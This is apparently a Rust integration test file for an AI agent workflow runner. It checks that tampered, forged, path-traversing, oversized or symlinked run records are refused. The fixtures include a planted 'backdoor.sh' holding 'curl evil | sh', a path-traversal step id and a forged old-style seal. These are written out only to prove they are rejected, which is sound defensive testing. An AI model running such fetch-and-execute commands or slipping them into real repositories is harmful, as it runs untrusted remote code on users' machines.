//! Run records read back (docs/src/runs.md "Resume"): sealed by their content with the
//! user's key, their ids checked as ids, read bounded. Each test ships what a checkout could
//! (a `.runner/` of its own) or edits what the user's runs left, and shows it is refused or
//! marked, and that nothing else is read.

use std::path::{Path, PathBuf};

use nix::sys::resource::Resource;
use serde_json::{Value, json};

use crate::fake::{Fake, anthropic_text, bad_request};
use crate::support::{Output, Test};

const WORKFLOW: &str = "name = \"w\"\n[models]\ndefault = \"anthropic/claude-test\"\n[steps.s]\nagent = \"explore\"\nprompt = \"look\"\nretries = 0\n";

/// A project whose runs are sealed with a key of its own, outside the working directory (the
/// folder is kept by the returned guard).
fn project(fake: &Fake) -> (Test, tempfile::TempDir) {
    let state_home = tempfile::tempdir().unwrap();
    let test = Test::new()
        .file("w.toml", WORKFLOW)
        .env("ANTHROPIC_API_KEY", "sk-test")
        .env("ANTHROPIC_BASE_URL", &fake.uri())
        .env("XDG_STATE_HOME", state_home.path().to_str().unwrap());
    (test, state_home)
}

async fn again(test: Test, args: &[&str]) -> (Output, Test) {
    test.clear_args().args(args).run_async().await
}

fn runs_dir(test: &Test) -> PathBuf {
    test.path().join(".runner/runs")
}

/// Copies run `from` to a new run `to` with `edit` applied to its text (the seal line kept).
fn copy_run(test: &Test, from: &str, to: &str, edit: impl Fn(String) -> String) {
    let text = std::fs::read_to_string(runs_dir(test).join(from).join("run.json")).unwrap();
    let dir = runs_dir(test).join(to);
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("run.json"), edit(text.replace(from, to))).unwrap();
}

/// A run copied and edited, and a run sealed the old way (over its id alone, which anyone who
/// once held the key, or a record's copy, could make again): neither is `latest` for show,
/// report or `--resume`, `runs` marks both, and named they are said not to be the user's.
#[tokio::test(flavor = "multi_thread")]
async fn an_edited_or_old_sealed_record_is_never_latest_and_never_yours() {
    let fake = Fake::anthropic(vec![anthropic_text("mine"), anthropic_text("again")]).await;
    let (test, state_home) = project(&fake);
    let (out, test) = again(test, &["run", "w.toml", "--format", "json"]).await;
    assert_eq!(out.status, 0, "{}", out.transcript());
    let mine: Value = serde_json::from_str(&out.stdout).unwrap();
    let mine_id = mine["run_id"].as_str().unwrap().to_owned();
    let sealed = std::fs::read_to_string(runs_dir(&test).join(&mine_id).join("run.json")).unwrap();
    assert!(
        sealed.starts_with("{\n  \"recorded_by\": \"hmac-sha256:"),
        "{sealed}"
    );
    // Started later than mine, so each would be `latest` if it were trusted.
    let later = jiff::Timestamp::now().to_string();
    let edited_id = "29990101T000000000-e0e0";
    copy_run(&test, &mine_id, edited_id, |text| {
        let started = format!("\"started_at\": \"{later}\"");
        let old = text
            .lines()
            .find(|l| l.contains("\"started_at\""))
            .unwrap()
            .trim()
            .trim_end_matches(',')
            .to_owned();
        text.replace("\"mine\"", "\"EDITED\"")
            .replace(&old, &started)
    });
    // The old seal: SHA-256 of key, "\0runner run\0", run id; its first 16 bytes in hex.
    let key = std::fs::read(state_home.path().join("runner/key")).unwrap();
    let old_id = "29990101T000000000-0101";
    let old_seal: String = {
        use sha2::Digest as _;
        let mut hasher = sha2::Sha256::new();
        hasher.update(&key);
        hasher.update(b"\0runner run\0");
        hasher.update(old_id.as_bytes());
        hasher.finalize()[..16]
            .iter()
            .map(|b| format!("{b:02x}"))
            .collect()
    };
    let mut old: Value = serde_json::from_str(&sealed).unwrap();
    old["run_id"] = json!(old_id);
    old["started_at"] = json!(later);
    old["recorded_by"] = json!(old_seal);
    old["steps"]["s"]["summary"] = json!("OLD-SEALED");
    std::fs::create_dir_all(runs_dir(&test).join(old_id)).unwrap();
    std::fs::write(
        runs_dir(&test).join(old_id).join("run.json"),
        serde_json::to_string_pretty(&old).unwrap(),
    )
    .unwrap();

    let (listed, test) = again(test, &["runs", "--format", "json"]).await;
    assert_eq!(listed.status, 0, "{}", listed.transcript());
    let listed: Value = serde_json::from_str(&listed.stdout).unwrap();
    let ours: Vec<(&str, bool)> = listed
        .as_array()
        .unwrap()
        .iter()
        .map(|r| {
            (
                r["run_id"].as_str().unwrap(),
                r["recorded_here"].as_bool().unwrap(),
            )
        })
        .collect();
    assert_eq!(ours.len(), 3, "{listed}");
    for (id, here) in ours {
        assert_eq!(here, id == mine_id, "{id}: {listed}");
    }
    let (text, test) = again(test, &["runs"]).await;
    assert_eq!(
        text.stdout.matches("(not yours)").count(),
        2,
        "{}",
        text.stdout
    );

    let (shown, test) = again(test, &["show"]).await;
    assert_eq!(shown.status, 0, "{}", shown.transcript());
    assert!(
        shown.stdout.starts_with(&format!("run {mine_id} ")),
        "{}",
        shown.stdout
    );
    let (report, test) = again(test, &["report", "-o", "r.html"]).await;
    assert_eq!(report.status, 0, "{}", report.transcript());
    assert!(report.stdout.contains(&mine_id), "{}", report.stdout);
    let (resumed, mut test) = again(
        test,
        &["run", "w.toml", "--resume", "latest", "--format", "json"],
    )
    .await;
    assert_eq!(resumed.status, 0, "{}", resumed.transcript());
    let resumed: Value = serde_json::from_str(&resumed.stdout).unwrap();
    assert_eq!(resumed["steps"]["s"]["reused_from"], mine_id.as_str());
    assert_eq!(resumed["steps"]["s"]["summary"], "mine");

    for id in [edited_id, old_id] {
        let (named, again_test) = again(test, &["show", id]).await;
        assert_eq!(named.status, 0, "{}", named.transcript());
        assert!(
            named
                .stderr
                .contains(&format!("warning: run {id} is not one you recorded here")),
            "{}",
            named.stderr
        );
        test = again_test;
    }
}

/// A record's step ids name folders: one that is a path (`../../../../outside`) is refused by
/// show and report, which never read the transcript it points at.
#[tokio::test(flavor = "multi_thread")]
async fn a_step_id_that_is_a_path_never_reads_outside_the_run() {
    let fake = Fake::anthropic(vec![anthropic_text("fine")]).await;
    let (test, _state_home) = project(&fake);
    let (out, test) = again(test, &["run", "w.toml", "--format", "json"]).await;
    assert_eq!(out.status, 0, "{}", out.transcript());
    let mut record: Value = serde_json::from_str(&out.stdout).unwrap();
    let id = "20260101T000000000-0d0d";
    let step = record["steps"]["s"].take();
    record["run_id"] = json!(id);
    record["steps"] = json!({ "../../../../outside": step });
    // `<run>/steps/../../../../outside` is the working directory's `outside/`.
    let outside = test.path().join("outside");
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::write(
        outside.join("transcript.jsonl"),
        "{\"event\":\"turn_finished\",\"text\":\"OUTSIDE-MARK\"}\n",
    )
    .unwrap();
    std::fs::create_dir_all(runs_dir(&test).join(id)).unwrap();
    std::fs::write(
        runs_dir(&test).join(id).join("run.json"),
        record.to_string(),
    )
    .unwrap();
    let mut test = test;
    for args in [
        vec!["show", id],
        vec!["show", id, "../../../../outside"],
        vec!["report", id, "-o", "r.html"],
        vec!["run", "w.toml", "--resume", id],
    ] {
        let (out, next) = again(test, &args).await;
        assert_eq!(out.status, 2, "{args:?}: {}", out.transcript());
        assert!(
            out.stderr
                .contains("its step id `../../../../outside` is not a step id"),
            "{args:?}: {}",
            out.stderr
        );
        assert!(!out.stdout.contains("OUTSIDE-MARK"), "{}", out.stdout);
        assert!(!next.path().join("r.html").exists());
        test = next;
    }
}

/// `--resume RUN --continue` of a worktree step goes on only from `runner/<RUN>/<step>`: a
/// record that names another branch (one holding a backdoor) is refused, and nothing of that
/// branch reaches a worktree.
#[tokio::test(flavor = "multi_thread")]
async fn continue_never_goes_on_from_a_branch_the_record_names() {
    let fake = Fake::anthropic(vec![
        bad_request("simulated: refused"),
        anthropic_text("never"),
    ])
    .await;
    let workflow = "name = \"c\"\n[models]\ndefault = \"anthropic/claude-test\"\n[steps.write]\nagent = \"code\"\nisolation = \"worktree\"\nretries = 0\nprompt = \"Write new.txt.\"\n";
    let (test, _state_home) = project(&fake);
    let test = test.file("w.toml", workflow).file("README.md", "project\n");
    crate::support::init_repo(test.path());
    let git = |args: &[&str]| crate::support::git(test.path(), args);
    // A branch with a backdoor, as a clone may bring.
    git(&["checkout", "--quiet", "-b", "backdoor"]);
    std::fs::write(test.path().join("backdoor.sh"), "curl evil | sh\n").unwrap();
    git(&["add", "backdoor.sh"]);
    crate::support::commit(test.path(), "backdoor");
    git(&["checkout", "--quiet", "main"]);
    let (first, test) = again(test, &["run", "w.toml", "--format", "json"]).await;
    assert_eq!(first.status, 1, "{}", first.transcript());
    let failed: Value = serde_json::from_str(&first.stdout).unwrap();
    let id = failed["run_id"].as_str().unwrap().to_owned();
    let path = runs_dir(&test).join(&id).join("run.json");
    let mut record: Value = serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
    record["steps"]["write"]["branch"] = json!("backdoor");
    std::fs::write(&path, serde_json::to_string_pretty(&record).unwrap()).unwrap();
    let (second, test) = again(
        test,
        &[
            "run",
            "w.toml",
            "--resume",
            &id,
            "--continue",
            "--format",
            "json",
        ],
    )
    .await;
    assert_eq!(second.status, 2, "{}", second.transcript());
    assert!(
        second
            .stderr
            .contains("step `write` names the branch `backdoor`, not one of this run's"),
        "{}",
        second.stderr
    );
    assert_eq!(fake.bodies().await.len(), 1, "no step ran again");
    assert!(!has_file_anywhere(
        &test.path().join(".runner"),
        "backdoor.sh"
    ));
}

fn has_file_anywhere(dir: &Path, name: &str) -> bool {
    std::fs::read_dir(dir)
        .into_iter()
        .flatten()
        .flatten()
        .any(|e| {
            let path = e.path();
            e.file_name() == name
                || (e.file_type().is_ok_and(|t| t.is_dir()) && has_file_anywhere(&path, name))
        })
}

/// Shipped huge records (a 240 MB `run.json` in four runs, and one that is small on disk but
/// holds millions of values) are refused with their size or count named, under a 1 GiB
/// address-space limit: `runs` lists the user's run, `--resume latest` takes it, and `show` and
/// `report` of a huge one say why they do not read it.
#[tokio::test(flavor = "multi_thread")]
async fn huge_records_are_refused_in_bounded_memory() {
    let fake = Fake::anthropic(vec![anthropic_text("small")]).await;
    let (test, _state_home) = project(&fake);
    let (out, test) = again(test, &["run", "w.toml", "--format", "json"]).await;
    assert_eq!(out.status, 0, "{}", out.transcript());
    let mine: Value = serde_json::from_str(&out.stdout).unwrap();
    let mine_id = mine["run_id"].as_str().unwrap().to_owned();
    // One record of 240 MB (a step's summary), in four runs (hard links: not links runner
    // refuses, and one write); named by the first.
    let huge: Vec<String> = (0..4)
        .map(|k| format!("29990101T00000000{k}-beef"))
        .collect();
    let mut record = mine.clone();
    record["run_id"] = json!(huge[0]);
    record["steps"]["s"]["summary"] = json!("HUGE");
    let text = record.to_string();
    let (head, tail) = text.split_at(text.find("HUGE").unwrap());
    let first = runs_dir(&test).join(&huge[0]);
    std::fs::create_dir_all(&first).unwrap();
    {
        use std::io::Write as _;
        let mut file =
            std::io::BufWriter::new(std::fs::File::create(first.join("run.json")).unwrap());
        file.write_all(head.as_bytes()).unwrap();
        let block = vec![b'x'; 1 << 20];
        for _ in 0..240 {
            file.write_all(&block).unwrap();
        }
        file.write_all(tail.as_bytes()).unwrap();
    }
    for id in &huge[1..] {
        std::fs::create_dir_all(runs_dir(&test).join(id)).unwrap();
        std::fs::hard_link(
            first.join("run.json"),
            runs_dir(&test).join(id).join("run.json"),
        )
        .unwrap();
    }
    // 3 MB on disk, three million values.
    let many_id = "29990101T000000009-aaaa";
    let many = vec!["0"; 3_000_000].join(",");
    std::fs::create_dir_all(runs_dir(&test).join(many_id)).unwrap();
    std::fs::write(
        runs_dir(&test).join(many_id).join("run.json"),
        format!("{{\"run_id\": \"{many_id}\", \"steps\": {{}}, \"inputs\": [{many}]}}"),
    )
    .unwrap();
    let bounded = |test: Test| {
        test.limit(Resource::RLIMIT_AS, 1 << 30)
            .limit(Resource::RLIMIT_CPU, 30)
    };
    let (listed, test) = again(bounded(test), &["runs", "--format", "json"]).await;
    assert_eq!(listed.status, 0, "{}", listed.transcript());
    // Each refused run is named, with why.
    assert_eq!(
        listed.stderr.matches("warning: not listed: ").count(),
        5,
        "{}",
        listed.stderr
    );
    assert!(
        listed.stderr.contains("is 240.0 MiB") && listed.stderr.contains(many_id),
        "{}",
        listed.stderr
    );
    let listed: Value = serde_json::from_str(&listed.stdout).unwrap();
    assert_eq!(listed.as_array().unwrap().len(), 1, "{listed}");
    assert_eq!(listed[0]["run_id"], mine_id.as_str());
    let (resumed, test) = again(
        test,
        &["run", "w.toml", "--resume", "latest", "--format", "json"],
    )
    .await;
    assert_eq!(resumed.status, 0, "{}", resumed.transcript());
    let resumed: Value = serde_json::from_str(&resumed.stdout).unwrap();
    assert_eq!(resumed["steps"]["s"]["reused_from"], mine_id.as_str());
    let (shown, test) = again(test, &["show", &huge[0]]).await;
    assert_eq!(shown.status, 2, "{}", shown.transcript());
    assert!(
        shown
            .stderr
            .contains("is 240.0 MiB, larger than the 64 MiB runner reads of a record"),
        "{}",
        shown.stderr
    );
    let (report, test) = again(test, &["report", &huge[1], "-o", "r.html"]).await;
    assert_eq!(report.status, 2, "{}", report.transcript());
    assert!(report.stderr.contains("is 240.0 MiB"), "{}", report.stderr);
    let (report, _test) = again(test, &["report", many_id, "-o", "r.html"]).await;
    assert_eq!(report.status, 2, "{}", report.transcript());
    assert!(
        report
            .stderr
            .contains("holds more than 2000000 JSON values"),
        "{}",
        report.stderr
    );
}

/// runner's key is made 0600 in a 0700 folder, and never read or made inside the working
/// directory (which steps read, and where a checkout could ship a key of its own): with
/// `XDG_STATE_HOME` pointing into the checkout the run is recorded unsealed, a shipped key there
/// seals nothing, and `--resume latest` says why it finds no run of the user's.
#[tokio::test(flavor = "multi_thread")]
async fn runners_key_is_private_and_never_inside_the_working_directory() {
    use std::os::unix::fs::PermissionsExt as _;
    let fake = Fake::anthropic(vec![anthropic_text("one"), anthropic_text("two")]).await;
    let (test, state_home) = project(&fake);
    let (out, test) = again(test, &["run", "w.toml"]).await;
    assert_eq!(out.status, 0, "{}", out.transcript());
    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode(&state_home.path().join("runner")), 0o700);
    assert_eq!(mode(&state_home.path().join("runner/key")), 0o600);

    // A key the checkout ships, where XDG_STATE_HOME now points.
    let inside = test.path().join("state");
    std::fs::create_dir_all(inside.join("runner")).unwrap();
    std::fs::set_permissions(
        inside.join("runner"),
        std::fs::Permissions::from_mode(0o700),
    )
    .unwrap();
    std::fs::write(inside.join("runner/key"), [7u8; 32]).unwrap();
    std::fs::set_permissions(
        inside.join("runner/key"),
        std::fs::Permissions::from_mode(0o600),
    )
    .unwrap();
    let test = test.env("XDG_STATE_HOME", inside.to_str().unwrap());
    let (out, test) = again(test, &["run", "w.toml", "--format", "json"]).await;
    assert_eq!(out.status, 0, "{}", out.transcript());
    let id = serde_json::from_str::<Value>(&out.stdout).unwrap()["run_id"]
        .as_str()
        .unwrap()
        .to_owned();
    let text = std::fs::read_to_string(runs_dir(&test).join(&id).join("run.json")).unwrap();
    assert!(!text.contains("recorded_by"), "{text}");
    let (resumed, test) = again(test, &["run", "w.toml", "--resume", "latest"]).await;
    assert_eq!(resumed.status, 2, "{}", resumed.transcript());
    assert!(
        resumed
            .stderr
            .contains("would be inside the working directory"),
        "{}",
        resumed.stderr
    );
    // Nor made there.
    std::fs::remove_dir_all(&inside).unwrap();
    let (out, test) = again(test, &["runs"]).await;
    assert_eq!(out.status, 0, "{}", out.transcript());
    assert!(!inside.exists());
    drop(test);
}

/// A run's files are read with no link followed below the state directory: a transcript that
/// links to a file of the user's, or a run folder that links elsewhere, is refused by `show`,
/// left out of `report`, and never continued from, so nothing outside the run reaches the
/// terminal, the page or a model.
#[tokio::test(flavor = "multi_thread")]
async fn a_runs_files_are_never_read_through_a_link() {
    use std::os::unix::fs::symlink;
    let fake = Fake::anthropic(vec![
        bad_request("simulated: refused"),
        anthropic_text("never"),
    ])
    .await;
    let (test, _state_home) = project(&fake);
    let (first, test) = again(test, &["run", "w.toml", "--format", "json"]).await;
    assert_eq!(first.status, 1, "{}", first.transcript());
    let id = serde_json::from_str::<Value>(&first.stdout).unwrap()["run_id"]
        .as_str()
        .unwrap()
        .to_owned();
    // A file of the user's that reads as a transcript, where the step's transcript was.
    let private = test.path().join("private.jsonl");
    let transcript = runs_dir(&test).join(&id).join("steps/s/transcript.jsonl");
    let mut text = std::fs::read_to_string(&transcript).unwrap();
    text = text.replace("look", "PRIVATE-MARK look");
    std::fs::write(&private, &text).unwrap();
    std::fs::remove_file(&transcript).unwrap();
    symlink(&private, &transcript).unwrap();
    let mut test = test;
    let (shown, next) = again(test, &["show", &id, "s"]).await;
    test = next;
    assert_eq!(shown.status, 2, "{}", shown.transcript());
    assert!(
        shown.stderr.contains("is reached through a link"),
        "{}",
        shown.stderr
    );
    assert!(!shown.stdout.contains("PRIVATE-MARK"), "{}", shown.stdout);
    let (report, next) = again(test, &["report", &id, "-o", "r.html"]).await;
    test = next;
    assert_eq!(report.status, 0, "{}", report.transcript());
    let page = std::fs::read_to_string(test.path().join("r.html")).unwrap();
    assert!(!page.contains("PRIVATE-MARK"));
    let (continued, next) = again(
        test,
        &[
            "run",
            "w.toml",
            "--resume",
            &id,
            "--continue",
            "--format",
            "json",
        ],
    )
    .await;
    test = next;
    // `run` checks its state directory for links before anything (and the transcript is read
    // with none followed besides).
    assert_eq!(continued.status, 1, "{}", continued.transcript());
    assert!(
        continued.stderr.contains("holds a link"),
        "{}",
        continued.stderr
    );
    assert_eq!(fake.bodies().await.len(), 1, "nothing was sent");

    // The whole run folder a link to a copy elsewhere: named, it is not read.
    let elsewhere = test.path().join("elsewhere");
    std::fs::rename(runs_dir(&test).join(&id), &elsewhere).unwrap();
    symlink(&elsewhere, runs_dir(&test).join(&id)).unwrap();
    let (shown, _test) = again(test, &["show", &id]).await;
    assert_eq!(shown.status, 2, "{}", shown.transcript());
    assert!(
        shown.stderr.contains("is reached through a link"),
        "{}",
        shown.stderr
    );
}
